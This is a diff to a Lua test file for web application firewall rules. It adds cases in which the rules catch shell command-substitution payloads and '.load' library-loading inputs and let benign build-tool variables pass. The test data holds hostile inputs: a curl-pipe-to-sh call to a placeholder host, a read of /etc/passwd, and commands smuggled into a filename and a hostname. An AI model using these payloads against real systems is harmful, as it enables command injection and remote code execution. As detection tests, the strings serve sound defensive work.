@@ -35,4 +35,12 @@ describe("edge.waf.rules seventy-seventh set on", function()
         caught_by(141140, { "s=document.createElement('script');", "top.document.createElement(\"IFRAME\")" })
         clean({ "we use io sockets", "use IO::Handle;", "createElement('div') then append", "a script element, created" })
     end)
+
+    it("shell: a build tool's $(VARIABLE) and a menu's '.load' are no command", function()
+        caught_by(132110, { "$(curl -s x.example/a|sh)", "a$(`id`)", "$(</etc/passwd)", "invoice_$(id).pdf",
+            "$(whoami).x.example", "$(alias)" })
+        caught_by(132280, { ".load /tmp/x.so", ".load evil", "; .load 'lib.dll'" })
+        clean({ "output: $(OutDir)\\$(TargetName).dll", "version $(Build.BuildId)", "cost $(price)",
+            ".load and .save in the old menu", ".load more results" })
+    end)
 end)
